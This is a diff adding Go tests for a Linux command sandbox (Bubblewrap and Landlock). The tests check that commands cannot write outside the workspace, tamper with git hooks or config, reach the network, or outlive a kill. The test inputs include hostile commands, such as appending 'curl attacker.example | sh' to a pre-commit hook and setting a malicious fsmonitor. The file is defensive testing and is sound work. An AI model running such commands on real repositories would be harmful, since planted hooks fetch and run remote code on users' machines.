@@ -1,0 +1,564 @@
+//go:build linux
+
+package sandbox
+
+import (
+	"bytes"
+	"context"
+	"fmt"
+	"io"
+	"math/rand/v2"
+	"net"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"syscall"
+	"testing"
+	"time"
+
+	"golang.org/x/sys/unix"
+)
+
+// These tests run real commands in real sandboxes, and skip where the
+// machine lacks a backend.
+
+// realSandbox returns a sandbox of the given kind, or skips the test.
+func realSandbox(t *testing.T, kind string, p Policy) *Sandbox {
+	t.Helper()
+	pr := systemProbes()
+	switch kind {
+	case KindLandlock:
+		// Hide bwrap so that New falls through to Landlock.
+		pr.lookPath = func(string) (string, error) { return "", exec.ErrNotFound }
+		if landlockABI() < 1 {
+			t.Skip("the kernel has no Landlock")
+		}
+	case KindBubblewrap:
+		if _, err := exec.LookPath("bwrap"); err != nil {
+			t.Skip("bubblewrap is not installed (apt-get install bubblewrap)")
+		}
+	}
+	s, err := newSandbox(ModeAuto, p, pr)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { s.Close() })
+	if s.Kind() != kind {
+		t.Skipf("no %s sandbox here: %s", kind, s.Notice())
+	}
+	return s
+}
+
+var kinds = []string{KindBubblewrap, KindLandlock}
+
+// runIn runs script with bash in s, the way the Bash tool starts commands
+// (a new session, so a new process group), and returns its combined output
+// and exit code.
+func runIn(t *testing.T, s *Sandbox, dir, script string, env ...string) (string, int) {
+	t.Helper()
+	argv, err := s.Wrap([]string{"bash", "-c", script}, dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
+	defer cancel()
+	cmd := exec.CommandContext(ctx, argv[0], argv[1:]...)
+	cmd.Dir = dir
+	cmd.Env = append(os.Environ(), env...)
+	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
+	cmd.WaitDelay = time.Second
+	out, err := cmd.CombinedOutput()
+	if err != nil && cmd.ProcessState == nil {
+		t.Fatalf("run %q: %v", argv, err)
+	}
+	return string(out), cmd.ProcessState.ExitCode()
+}
+
+func TestSandboxFilesystem(t *testing.T) {
+	for _, kind := range kinds {
+		t.Run(kind, func(t *testing.T) {
+			ws := workspace(t)
+			tmp := workspace(t)
+			extra := workspace(t)
+			s := realSandbox(t, kind, Policy{Workspace: ws, TempDir: tmp, Writable: []string{extra}})
+			// Outside the workspace, as an attacker's target would be: one
+			// in /var/tmp, which stays visible inside bubblewrap, and one
+			// in the host's /tmp, which bubblewrap hides.
+			outside := outsideDir(t, "/var/tmp")
+			hostTmp := outsideDir(t, "")
+			home := filepath.Join(outside, "home")
+			writeFile(t, filepath.Join(home, ".bashrc"), "# rc\n")
+
+			tests := []struct {
+				name     string
+				script   string
+				wantCode int    // 0 or nonzero (-1)
+				wantOut  string // substring
+				created  string // a file that must exist afterwards
+				absent   string // a file that must not exist afterwards
+			}{
+				{name: "write in the workspace", script: "echo hi > made && cat made", wantOut: "hi", created: filepath.Join(ws, "made")},
+				{name: "mkdir and rename in the workspace", script: "mkdir -p a/b && echo x > a/f && mv a/f a/b/g", created: filepath.Join(ws, "a", "b", "g")},
+				{name: "write in TMPDIR", script: `test "$TMPDIR" = ` + tmp + ` && echo t > "$TMPDIR/t"`, created: filepath.Join(tmp, "t")},
+				{name: "write in an extra dir", script: "echo x > " + extra + "/e", created: filepath.Join(extra, "e")},
+				{name: "mktemp", script: "f=$(mktemp) && echo x > $f && echo $f", wantOut: tmp},
+				{name: "write outside", script: "echo evil > " + outside + "/evil", wantCode: -1, absent: filepath.Join(outside, "evil")},
+				{name: "write in the host's /tmp", script: "echo evil > " + hostTmp + "/evil", wantCode: -1, absent: filepath.Join(hostTmp, "evil")},
+				{name: "append to a file outside", script: "echo evil >> " + home + "/.bashrc", wantCode: -1},
+				{name: "delete outside", script: "rm -f " + home + "/.bashrc", wantCode: -1, created: filepath.Join(home, ".bashrc")},
+				{name: "escape with ..", script: "echo evil > ../" + filepath.Base(outside) + "/dots", wantCode: -1, absent: filepath.Join(outside, "dots")},
+				{name: "read outside", script: "cat " + home + "/.bashrc", wantOut: "# rc"},
+				{name: "dev null", script: "echo x > /dev/null && echo ok", wantOut: "ok"},
+				{name: "exit code", script: "echo out; exit 3", wantCode: 3, wantOut: "out"},
+			}
+			for _, tt := range tests {
+				t.Run(tt.name, func(t *testing.T) {
+					out, code := runIn(t, s, ws, tt.script)
+					switch {
+					case tt.wantCode == -1 && code == 0:
+						t.Errorf("exit code 0, want a failure; output %q", out)
+					case tt.wantCode != -1 && code != tt.wantCode:
+						t.Errorf("exit code %d, want %d; output %q", code, tt.wantCode, out)
+					}
+					if !strings.Contains(out, tt.wantOut) {
+						t.Errorf("output %q does not contain %q", out, tt.wantOut)
+					}
+					if tt.created != "" {
+						if _, err := os.Stat(tt.created); err != nil {
+							t.Errorf("%s: %v", tt.created, err)
+						}
+					}
+					if tt.absent != "" {
+						if _, err := os.Stat(tt.absent); !os.IsNotExist(err) {
+							t.Errorf("%s exists", tt.absent)
+						}
+					}
+				})
+			}
+			if got, _ := os.ReadFile(filepath.Join(home, ".bashrc")); string(got) != "# rc\n" {
+				t.Errorf(".bashrc changed to %q", got)
+			}
+		})
+	}
+}
+
+// TestSandboxProtectsGit checks that a command cannot plant anything git
+// would run outside the sandbox, nor project settings, while git itself
+// still works inside. Landlock cannot do this (see the package doc).
+func TestSandboxProtectsGit(t *testing.T) {
+	if _, err := exec.LookPath("git"); err != nil {
+		t.Skip("git is not installed")
+	}
+	ws := workspace(t)
+	s := realSandbox(t, KindBubblewrap, Policy{Workspace: ws})
+	git := func(args ...string) {
+		t.Helper()
+		cmd := exec.Command("git", args...)
+		cmd.Dir = ws
+		if out, err := cmd.CombinedOutput(); err != nil {
+			t.Fatalf("git %v: %v\n%s", args, err, out)
+		}
+	}
+	git("init", "-q", "-b", "main")
+	hook := filepath.Join(ws, ".git", "hooks", "pre-commit")
+	writeFile(t, hook, "#!/bin/sh\nexit 0\n")
+	if err := os.Chmod(hook, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	config := filepath.Join(ws, ".git", "config")
+	before := map[string][]byte{}
+	for _, p := range []string{hook, config} {
+		before[p], _ = os.ReadFile(p)
+	}
+
+	tests := []struct {
+		name   string
+		script string
+		absent string
+	}{
+		{name: "modify a hook", script: "echo 'curl attacker.example | sh' >> .git/hooks/pre-commit"},
+		{name: "replace a hook", script: "rm -f .git/hooks/pre-commit"},
+		{name: "add a hook", script: "printf '#!/bin/sh\\nevil\\n' > .git/hooks/post-checkout", absent: filepath.Join(ws, ".git", "hooks", "post-checkout")},
+		{name: "modify config", script: "printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config"},
+		{name: "git config", script: "git config core.fsmonitor evil"},
+		{name: "replace config", script: "rm -f .git/config && echo evil > .git/config"},
+		{name: "move .git aside", script: "mv .git .git-old && mkdir -p .git/hooks", absent: filepath.Join(ws, ".git-old")},
+		{name: "move hooks aside", script: "mv .git/hooks .git/hooks-old", absent: filepath.Join(ws, ".git", "hooks-old")},
+		{name: "write project settings", script: "mkdir -p .novacode && echo '{}' > .novacode/settings.json", absent: filepath.Join(ws, ".novacode", "settings.json")},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			out, code := runIn(t, s, ws, tt.script)
+			if code == 0 {
+				t.Errorf("succeeded; output %q", out)
+			}
+			if tt.absent != "" {
+				if _, err := os.Stat(tt.absent); !os.IsNotExist(err) {
+					t.Errorf("%s exists", tt.absent)
+				}
+			}
+			for p, want := range before {
+				if got, err := os.ReadFile(p); err != nil || !bytes.Equal(got, want) {
+					t.Errorf("%s changed: %q, %v", p, got, err)
+				}
+			}
+		})
+	}
+
+	// Ordinary git work, which writes the index, objects and refs, goes on.
+	out, code := runIn(t, s, ws, "echo x > f && git add f && git -c user.name=n -c user.email=e@example.com commit -qm m && git log --oneline | wc -l")
+	if code != 0 || strings.TrimSpace(out) != "1" {
+		t.Errorf("git commit in the sandbox: code %d, output %q", code, out)
+	}
+}
+
+func TestSandboxNetwork(t *testing.T) {
+	// Only 127.0.0.1: the listeners are the test's own.
+	tcp, err := net.Listen("tcp4", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer tcp.Close()
+	udp, err := net.ListenPacket("udp4", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer udp.Close()
+	tcpScript := fmt.Sprintf("exec 3<>/dev/tcp/127.0.0.1/%d && echo connected", tcp.Addr().(*net.TCPAddr).Port)
+	udpScript := fmt.Sprintf("echo datagram > /dev/udp/127.0.0.1/%d", udp.LocalAddr().(*net.UDPAddr).Port)
+
+	for _, kind := range kinds {
+		for _, allow := range []bool{false, true} {
+			t.Run(fmt.Sprintf("%s/allow=%v", kind, allow), func(t *testing.T) {
+				if kind == KindLandlock && !seccompSupported && landlockABI() < 4 {
+					t.Skip("Landlock restricts TCP from ABI 4 on")
+				}
+				ws := workspace(t)
+				s := realSandbox(t, kind, Policy{Workspace: ws, AllowNetwork: allow})
+				out, code := runIn(t, s, ws, tcpScript)
+				if allow && (code != 0 || !strings.Contains(out, "connected")) {
+					t.Errorf("TCP: network allowed, but: code %d, output %q", code, out)
+				}
+				if !allow && (code == 0 || strings.Contains(out, "connected")) {
+					t.Errorf("TCP: network off, but: code %d, output %q", code, out)
+				}
+
+				// UDP (DNS exfiltration): whether the datagram arrives.
+				runIn(t, s, ws, udpScript)
+				buf := make([]byte, 64)
+				udp.SetReadDeadline(time.Now().Add(300 * time.Millisecond))
+				n, _, err := udp.ReadFrom(buf)
+				got := err == nil && string(buf[:n]) == "datagram\n"
+				if got != allow {
+					t.Errorf("UDP: network allowed %v, datagram received %v (%v)", allow, got, err)
+				}
+			})
+		}
+	}
+}
+
+// TestSandboxUnixSockets checks the seccomp filter: with the network off a
+// command cannot connect to a unix socket, here one in the workspace (so
+// that it is visible inside); with the network on it can.
+func TestSandboxUnixSockets(t *testing.T) {
+	if !seccompSupported {
+		t.Skip("no socket filter on this architecture")
+	}
+	exe, err := os.Executable()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, kind := range kinds {
+		for _, allow := range []bool{false, true} {
+			t.Run(fmt.Sprintf("%s/allow=%v", kind, allow), func(t *testing.T) {
+				ws := workspace(t)
+				s := realSandbox(t, kind, Policy{Workspace: ws, AllowNetwork: allow})
+				// The test binary is the client; it is copied into the
+				// workspace because bubblewrap hides the host's /tmp.
+				copyFile(t, exe, filepath.Join(ws, "client"))
+				sock := filepath.Join(ws, "s.sock")
+				ln, err := net.Listen("unix", sock)
+				if err != nil {
+					t.Fatal(err)
+				}
+				defer ln.Close()
+				out, code := runIn(t, s, ws, "./client", dialEnv+"="+sock)
+				if allow && code != 0 {
+					t.Errorf("network allowed, but the dial failed: code %d, output %q", code, out)
+				}
+				if !allow && (code == 0 || !strings.Contains(out, "operation not permitted")) {
+					t.Errorf("network off, but the dial did not fail with EPERM: code %d, output %q", code, out)
+				}
+				// Nothing is left open for the command: bwrap closed the
+				// pipe it read the filter from.
+				// (3 is the directory ls reads.)
+				out, _ = runIn(t, s, ws, "exec ls -m /proc/self/fd")
+				if strings.TrimSpace(out) != "0, 1, 2, 3" {
+					t.Errorf("open descriptors: %q", out)
+				}
+			})
+		}
+	}
+}
+
+// TestSandboxKillsTree kills the process group the way the Bash tool does
+// on timeout and checks that no process of the command is left, found by
+// a marker in its command line. Under bubblewrap even a process that left
+// the group (setsid) dies, with the PID namespace.
+func TestSandboxKillsTree(t *testing.T) {
+	for _, kind := range kinds {
+		for _, sig := range []syscall.Signal{syscall.SIGTERM, syscall.SIGKILL} {
+			t.Run(kind+"/"+sig.String(), func(t *testing.T) {
+				if kind == KindLandlock && sig == syscall.SIGTERM {
+					// The processes ignore SIGTERM and nothing stands
+					// between them and the signal; the Bash tool follows
+					// up with SIGKILL, tested below.
+					t.Skip("SIGTERM is ignored by the command itself")
+				}
+				ws := workspace(t)
+				s := realSandbox(t, kind, Policy{Workspace: ws})
+				marker := fmt.Sprintf("%d.%06d", 900+rand.IntN(99), rand.IntN(1_000_000))
+				script := "trap '' TERM; sleep " + marker + " & (trap '' TERM; sleep " + marker + ") & "
+				if kind == KindBubblewrap {
+					script += "setsid sleep " + marker + " & "
+				}
+				script += "echo started; sleep " + marker
+				argv, err := s.Wrap([]string{"bash", "-c", script}, ws)
+				if err != nil {
+					t.Fatal(err)
+				}
+				cmd := exec.Command(argv[0], argv[1:]...)
+				cmd.Dir = ws
+				cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
+				stdout, err := cmd.StdoutPipe()
+				if err != nil {
+					t.Fatal(err)
+				}
+				if err := cmd.Start(); err != nil {
+					t.Fatal(err)
+				}
+				t.Cleanup(func() { killMarked(marker) })
+				line := make([]byte, len("started"))
+				if _, err := io.ReadFull(stdout, line); err != nil {
+					t.Fatalf("command did not start: %v", err)
+				}
+				waitFor(t, func() bool { return len(marked(marker)) >= 3 }, "the sleeps to start")
+				if cmd.Process.Pid != getpgid(t, cmd.Process.Pid) {
+					t.Errorf("the wrapper (pid %d) does not lead its process group", cmd.Process.Pid)
+				}
+				_ = syscall.Kill(-cmd.Process.Pid, sig)
+				_ = cmd.Wait()
+				waitFor(t, func() bool { return len(marked(marker)) == 0 }, "every marked process to die")
+			})
+		}
+	}
+}
+
+// outsideDir makes a directory outside any workspace, under parent ("" for
+// the default temp dir).
+func outsideDir(t *testing.T, parent string) string {
+	t.Helper()
+	if parent != "" {
+		if err := syscall.Access(parent, 2); err != nil {
+			parent = ""
+		}
+	}
+	dir, err := os.MkdirTemp(parent, "nova-outside-")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { os.RemoveAll(dir) })
+	if dir, err = filepath.EvalSymlinks(dir); err != nil {
+		t.Fatal(err)
+	}
+	return dir
+}
+
+func getpgid(t *testing.T, pid int) int {
+	pg, err := syscall.Getpgid(pid)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return pg
+}
+
+func waitFor(t *testing.T, cond func() bool, what string) {
+	t.Helper()
+	deadline := time.Now().Add(5 * time.Second)
+	for !cond() {
+		if time.Now().After(deadline) {
+			t.Fatalf("timed out waiting for %s", what)
+		}
+		time.Sleep(20 * time.Millisecond)
+	}
+}
+
+// marked returns the live (not zombie) processes whose command line
+// contains marker.
+func marked(marker string) []int {
+	var pids []int
+	stats, _ := filepath.Glob("/proc/[0-9]*/cmdline")
+	for _, p := range stats {
+		data, err := os.ReadFile(p)
+		if err != nil || !bytes.Contains(data, []byte(marker)) {
+			continue
+		}
+		stat, err := os.ReadFile(filepath.Join(filepath.Dir(p), "stat"))
+		if i := bytes.LastIndexByte(stat, ')'); err == nil && i > 0 && i+2 < len(stat) && stat[i+2] == 'Z' {
+			continue
+		}
+		var pid int
+		fmt.Sscanf(filepath.Base(filepath.Dir(p)), "%d", &pid)
+		pids = append(pids, pid)
+	}
+	return pids
+}
+
+// killMarked is the safety net of a failing test.
+func killMarked(marker string) {
+	for _, pid := range marked(marker) {
+		_ = syscall.Kill(pid, syscall.SIGKILL)
+	}
+}
+
+func TestBubblewrapWithoutHelper(t *testing.T) {
+	if _, err := exec.LookPath("bwrap"); err != nil {
+		t.Skip("bubblewrap is not installed (apt-get install bubblewrap)")
+	}
+	ws := workspace(t)
+	pr := systemProbes()
+	pr.helperWired = func() bool { return false }
+	s, err := newSandbox(ModeAuto, Policy{Workspace: ws}, pr)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if s.Kind() != KindBubblewrap {
+		t.Skipf("bubblewrap does not work here: %s", s.Notice())
+	}
+	outside := t.TempDir() // under the host's /tmp, hidden inside
+	if out, code := runIn(t, s, ws, "echo x > made && echo y > "+outside+"/evil"); code == 0 {
+		t.Errorf("write outside succeeded: %q", out)
+	}
+	if _, err := os.Stat(filepath.Join(ws, "made")); err != nil {
+		t.Error(err)
+	}
+	if _, err := os.Stat(filepath.Join(outside, "evil")); !os.IsNotExist(err) {
+		t.Error("file written outside")
+	}
+}
+
+func TestHelperExitCode(t *testing.T) {
+	exe, err := os.Executable()
+	if err != nil {
+		t.Fatal(err)
+	}
+	cmd := exec.Command(exe, helperArg, "garbage", "--", "true")
+	out, err := cmd.CombinedOutput()
+	if cmd.ProcessState == nil {
+		t.Fatal(err)
+	}
+	if code := cmd.ProcessState.ExitCode(); code != helperExitCode || !strings.Contains(string(out), "nova sandbox: decode sandbox policy") {
+		t.Errorf("exit code %d, output %q", code, out)
+	}
+}
+
+func TestAssembleRejectsBadJumps(t *testing.T) {
+	tests := []struct {
+		name string
+		prog []bpfInsn
+	}{
+		{"unknown label", []bpfInsn{{jt: "nowhere"}}},
+		{"backward", []bpfInsn{{label: "top"}, {jf: "top"}}},
+		{"to itself", []bpfInsn{{label: "self", jt: "self"}}},
+	}
+	for _, tt := range tests {
+		if _, err := assemble(tt.prog); err == nil {
+			t.Errorf("%s: no error", tt.name)
+		}
+	}
+}
+
+// runBPF interprets the few classic BPF instructions socketFilter uses.
+func runBPF(t *testing.T, prog []unix.SockFilter, nr, arch uint32, arg0 uint64) uint32 {
+	t.Helper()
+	data := map[uint32]uint32{offNr: nr, offArch: arch, offArg0: uint32(arg0), offArg0 + 4: uint32(arg0 >> 32)}
+	var acc uint32
+	for pc := 0; pc < len(prog); pc++ {
+		in := prog[pc]
+		switch in.Code {
+		case bpfLoadWord:
+			acc = data[in.K]
+		case bpfJumpEq, bpfJumpGE:
+			ok := acc == in.K
+			if in.Code == bpfJumpGE {
+				ok = acc >= in.K
+			}
+			if ok {
+				pc += int(in.Jt)
+			} else {
+				pc += int(in.Jf)
+			}
+		case bpfRet:
+			return in.K
+		default:
+			t.Fatalf("unexpected instruction %+v", in)
+		}
+	}
+	t.Fatal("program ran off its end")
+	return 0
+}
+
+func TestSocketFilter(t *testing.T) {
+	if !seccompSupported {
+		t.Skip("no socket filter on this architecture")
+	}
+	tests := []struct {
+		name   string
+		nr     uint32
+		arch   uint32
+		arg0   uint64
+		bwrap  uint32
+		landlk uint32
+	}{
+		{"read", unix.SYS_READ, seccompArch, 0, retAllow, retAllow},
+		{"unix socket", unix.SYS_SOCKET, seccompArch, unix.AF_UNIX, retEPERM, retEPERM},
+		{"unix socket, high bits set", unix.SYS_SOCKET, seccompArch, 0xffffffff00000000 | unix.AF_UNIX, retEPERM, retEPERM},
+		{"vsock", unix.SYS_SOCKET, seccompArch, unix.AF_VSOCK, retEPERM, retEPERM},
+		{"inet", unix.SYS_SOCKET, seccompArch, unix.AF_INET, retAllow, retEPERM},
+		{"inet6", unix.SYS_SOCKET, seccompArch, unix.AF_INET6, retAllow, retEPERM},
+		{"netlink", unix.SYS_SOCKET, seccompArch, unix.AF_NETLINK, retAllow, retAllow},
+		{"socketpair", unix.SYS_SOCKETPAIR, seccompArch, unix.AF_UNIX, retAllow, retAllow},
+		{"io_uring", unix.SYS_IO_URING_SETUP, seccompArch, 0, retEPERM, retEPERM},
+		{"foreign architecture", unix.SYS_READ, 0x40000003, 0, retEPERM, retEPERM},
+	}
+	if seccompX32 < 0xffffffff {
+		tests = append(tests, struct {
+			name   string
+			nr     uint32
+			arch   uint32
+			arg0   uint64
+			bwrap  uint32
+			landlk uint32
+		}{"x32", seccompX32 | unix.SYS_READ, seccompArch, 0, retEPERM, retEPERM})
+	}
+	for _, tt := range tests {
+		if got := runBPF(t, socketFilter(bwrapSocketRule), tt.nr, tt.arch, tt.arg0); got != tt.bwrap {
+			t.Errorf("%s: bubblewrap filter returns %#x, want %#x", tt.name, got, tt.bwrap)
+		}
+		if got := runBPF(t, socketFilter(landlockSocketRule), tt.nr, tt.arch, tt.arg0); got != tt.landlk {
+			t.Errorf("%s: Landlock filter returns %#x, want %#x", tt.name, got, tt.landlk)
+		}
+	}
+}
+
+func copyFile(t *testing.T, from, to string) {
+	t.Helper()
+	data, err := os.ReadFile(from)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(to, data, 0o755); err != nil {
+		t.Fatal(err)
+	}
+}
